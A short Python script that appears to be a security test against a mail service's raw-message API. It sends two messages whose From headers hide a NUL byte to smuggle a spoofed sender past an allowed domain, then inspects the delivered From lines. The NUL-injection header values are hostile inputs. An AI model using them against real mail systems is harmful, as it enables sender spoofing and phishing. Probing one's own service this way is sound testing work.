import sys, base64; sys.path.insert(0,'/tmp/attack28')
exec(open('/tmp/attack28/t7.py').read().split('tests = [')[0])
before = sinkcount()
for name, msg in [('nul-from', 'From: evil@evil.test\u0000@acme.test\r\nSubject: nul\r\n\r\nx\r\n'), ('nul-from2', 'From: <evil@evil.test\u0000>, a@acme.test\r\nSubject: nul\r\n\r\nx\r\n')]:
    st, txt, _ = post('/v1/messages/raw', {'envelope': {'from': 'a@acme.test', 'to': ['bob@dest.test']}, 'message': msg})
    print(name, st, txt[:200])
time.sleep(4)
for m in newmsgs(before, wait=1, want=0):
    u = unstuff(m); print([l for l in u.split(b'\r\n') if l.startswith(b'From')])
